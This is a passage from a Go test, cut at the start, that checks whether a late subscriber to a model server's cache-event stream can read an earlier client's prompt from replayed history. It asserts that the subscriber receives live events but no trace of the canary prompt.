		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(500 * time.Millisecond) // a replay, if any, lands
	stored, toks := sink.snapshot()
	if stored == 0 {
		t.Fatal("the stranger received nothing at all (not connected)")
	}
	if strings.Contains(model.Tokenizer.Decode(toks), "marmalade-tangerine") {
		t.Fatalf("the stranger read an earlier client's prompt from the replayed history (%d token ids)", len(toks))
	}
	t.Logf("attack_replay_history protected: a late local subscriber got %d live BlockStored events and none of the earlier prompt", stored)
}
